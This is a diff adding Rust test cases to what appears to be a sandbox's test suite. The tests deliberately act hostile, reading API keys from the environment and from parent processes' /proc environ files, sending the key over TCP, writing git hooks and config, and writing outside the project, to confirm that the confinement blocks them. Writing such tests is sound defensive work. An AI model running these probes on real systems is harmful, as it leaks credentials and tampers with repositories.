@@ -376,3 +376,164 @@ async fn hostile_go_tests_reach_nothing_outside_and_a_tests_own_server_works() {
         .write("calc/calc.go", GO_SOURCE);
     run_hostile(&project, GO_TESTS, "calc").await;
 }
+
+const RUST_SOURCE: &str = "pub fn read_env() -> i32 {\n    1\n}\n\n\
+pub fn dial_tcp() -> i32 {\n    1\n}\n\n\
+pub fn send_udp() -> i32 {\n    1\n}\n\n\
+pub fn dial_unix() -> i32 {\n    1\n}\n\n\
+pub fn write_outside() -> i32 {\n    1\n}\n\n\
+pub fn write_hook() -> i32 {\n    1\n}\n\n\
+pub fn read_parent() -> i32 {\n    1\n}\n\n\
+pub fn serve() -> i32 {\n    1\n}\n";
+
+const RUST_TESTS: &[(&str, &str)] = &[
+    (
+        "test_read_env",
+        r#"#[test]
+fn test_read_env() {
+    std::fs::write("ran-test_read_env", "ran").unwrap();
+    for (name, value) in std::env::vars() {
+        assert!(
+            !value.contains("{KEY_PREFIX}") && name != "OPENAI_API_KEY",
+            "LEAK env: {name}={value}"
+        );
+    }
+    assert_eq!(read_env(), 1);
+}"#,
+    ),
+    (
+        "test_dial_tcp",
+        r#"#[test]
+fn test_dial_tcp() {
+    use std::io::Write;
+    std::fs::write("ran-test_dial_tcp", "ran").unwrap();
+    let address: std::net::SocketAddr = "{TCP}".parse().unwrap();
+    let timeout = std::time::Duration::from_secs(2);
+    if let Ok(mut stream) = std::net::TcpStream::connect_timeout(&address, timeout) {
+        let key = std::env::var("OPENAI_API_KEY").unwrap_or_default();
+        let _ = stream.write_all(format!("LEAK {key}").as_bytes());
+        panic!("LEAK: reached the host's TCP listener");
+    }
+    assert_eq!(dial_tcp(), 1);
+}"#,
+    ),
+    (
+        "test_send_udp",
+        r#"#[test]
+fn test_send_udp() {
+    std::fs::write("ran-test_send_udp", "ran").unwrap();
+    if let Ok(socket) = std::net::UdpSocket::bind("127.0.0.1:0") {
+        for _ in 0..5 {
+            let _ = socket.send_to(b"LEAK", "{UDP}");
+        }
+    }
+    assert_eq!(send_udp(), 1);
+}"#,
+    ),
+    (
+        "test_dial_unix",
+        r#"#[test]
+fn test_dial_unix() {
+    std::fs::write("ran-test_dial_unix", "ran").unwrap();
+    assert!(
+        std::os::unix::net::UnixStream::connect("{UNIX}").is_err(),
+        "LEAK: reached a unix socket outside the project"
+    );
+    assert_eq!(dial_unix(), 1);
+}"#,
+    ),
+    (
+        "test_write_outside",
+        r#"#[test]
+fn test_write_outside() {
+    std::fs::write("ran-test_write_outside", "ran").unwrap();
+    assert!(
+        std::fs::write("{OUTSIDE}/pwned", "LEAK").is_err(),
+        "LEAK: wrote outside the project"
+    );
+    assert!(
+        std::fs::create_dir("{OUTSIDE}/dir").is_err(),
+        "LEAK: made a folder outside the project"
+    );
+    assert_eq!(write_outside(), 1);
+}"#,
+    ),
+    (
+        "test_write_hook",
+        r#"#[test]
+fn test_write_hook() {
+    std::fs::write("ran-test_write_hook", "ran").unwrap();
+    assert!(std::path::Path::new(".git/hooks").is_dir(), "no .git found");
+    assert!(
+        std::fs::write(".git/hooks/pre-commit", "echo LEAK").is_err(),
+        "LEAK: wrote a git hook"
+    );
+    assert!(
+        std::fs::write(".git/config", "LEAK").is_err(),
+        "LEAK: rewrote the git config"
+    );
+    assert_eq!(write_hook(), 1);
+}"#,
+    ),
+    (
+        "test_read_parent",
+        r#"#[test]
+fn test_read_parent() {
+    std::fs::write("ran-test_read_parent", "ran").unwrap();
+    let mut pid = std::os::unix::process::parent_id();
+    for _ in 0..10 {
+        if pid <= 1 {
+            break;
+        }
+        if let Ok(environ) = std::fs::read(format!("/proc/{pid}/environ")) {
+            let text = String::from_utf8_lossy(&environ);
+            assert!(!text.contains("{KEY_PREFIX}"), "LEAK from /proc/{pid}/environ: {text}");
+        }
+        let Ok(status) = std::fs::read_to_string(format!("/proc/{pid}/status")) else {
+            break;
+        };
+        pid = status
+            .lines()
+            .find_map(|line| line.strip_prefix("PPid:"))
+            .and_then(|value| value.trim().parse().ok())
+            .unwrap_or(0);
+    }
+    assert_eq!(read_parent(), 1);
+}"#,
+    ),
+    (
+        "test_serve",
+        r#"#[test]
+fn test_serve() {
+    use std::io::{Read, Write};
+    std::fs::write("ran-test_serve", "ran").unwrap();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let address = listener.local_addr().unwrap();
+    let server = std::thread::spawn(move || {
+        let (mut stream, _) = listener.accept().unwrap();
+        stream.write_all(b"pong").unwrap();
+    });
+    let mut client = std::net::TcpStream::connect(address).unwrap();
+    let mut reply = String::new();
+    client.read_to_string(&mut reply).unwrap();
+    server.join().unwrap();
+    assert_eq!(reply, "pong");
+    assert_eq!(serve(), 1);
+}"#,
+    ),
+];
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_rust_tests_reach_nothing_outside_and_a_tests_own_server_works() {
+    if !confinement_available() || !has("cargo") {
+        return;
+    }
+    let project = Project::new();
+    project
+        .write(
+            "Cargo.toml",
+            "[package]\nname = \"hostile\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
+        )
+        .write("src/lib.rs", RUST_SOURCE);
+    run_hostile(&project, RUST_TESTS, ".").await;
+}
